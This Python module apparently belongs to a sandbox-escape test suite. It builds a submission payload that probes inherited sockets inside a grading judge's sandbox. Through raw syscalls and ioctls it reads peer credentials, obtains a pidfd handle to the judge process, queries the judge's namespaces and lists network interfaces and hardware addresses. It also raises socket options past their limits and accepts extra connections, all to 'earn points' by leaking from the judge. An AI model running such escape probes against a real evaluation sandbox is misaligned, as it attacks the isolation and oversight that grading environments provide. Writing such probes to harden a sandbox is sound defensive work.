"""Use the channel itself: a socket that the judge made would belong to the judge's network and know the judge.

Success: addresses of the machine, a handle of the judge or of its name spaces, which earns the points of `double`.
"""

from attacks.escaping.ways import HEAD

SUBMISSION = (
    HEAD
    + r'''
import fcntl
import struct

GETSOCKOPT, SETSOCKOPT, GETSOCKNAME, GETPEERNAME, ACCEPT4 = 55, 54, 51, 52, 288
PEERCRED, PEERSEC, PEERGROUPS, PEERPIDFD = 17, 31, 59, 77
ALL = range(64)


def option(fd, name):
    room, size = ctypes.create_string_buffer(64), ctypes.c_int(64)
    kernel(GETSOCKOPT, fd, 1, name, room, ctypes.byref(size))
    return room.raw[: size.value]


def who_is_there():
    return each(lambda fd: {name: option(fd, name) for name in (PEERCRED, PEERGROUPS)}, ALL)


def handle_of_the_judge():
    return each(lambda fd: struct.unpack("i", option(fd, PEERPIDFD)), ALL)


def name_spaces_of_the_judge():
    def ask(fd):
        (handle,) = struct.unpack("i", option(fd, PEERPIDFD))
        return each(lambda kind: fcntl.ioctl(handle, 0xFF00 | kind, 0), range(1, 11))
    return any(each(ask, ALL).values())


def name_space_of_the_socket():
    return each(lambda fd: fcntl.ioctl(fd, 0x894C, 0), ALL)


def interfaces():
    """Names and addresses of the network that the socket was made in."""
    def ask(fd):
        room = ctypes.create_string_buffer(4096)
        answer = fcntl.ioctl(fd, 0x8912, struct.pack("iiQ", 4096, 0, ctypes.addressof(room)))
        return room.raw[: struct.unpack("i", answer[:4])[0]]
    return any(each(ask, ALL).values())


def hardware_addresses():
    names = [b"eth0", b"ens3", b"enp0s3", b"wlan0", b"docker0"]
    pairs = [(fd, name.ljust(40, b"\0")) for fd in ALL for name in names]
    return each(lambda pair: fcntl.ioctl(pair[0], 0x8927, pair[1]), pairs)


def owner_by_another_door():
    return each(lambda fd: fcntl.ioctl(fd, 0x8901, struct.pack("i", os.getpid())), ALL)


def addresses():
    room, size = ctypes.create_string_buffer(128), ctypes.c_int(128)
    return each(lambda fd: [kernel(n, fd, room, ctypes.byref(size)) for n in (GETSOCKNAME, GETPEERNAME)], ALL)


def options():
    """Larger buffers than allowed, a filter on what comes, credentials with each message."""
    one = struct.pack("i", 1)
    pairs = [(fd, name) for fd in ALL for name in (8, 16, 32, 33)]
    return each(lambda pair: kernel(SETSOCKOPT, pair[0], 1, pair[1], one, 4) + 1, pairs)


def another_connection():
    return each(lambda fd: kernel(ACCEPT4, fd, None, None, 0), ALL)


WAYS = [who_is_there, handle_of_the_judge, name_spaces_of_the_judge, name_space_of_the_socket, interfaces,
        hardware_addresses, owner_by_another_door, addresses, options, another_connection]
'''
)
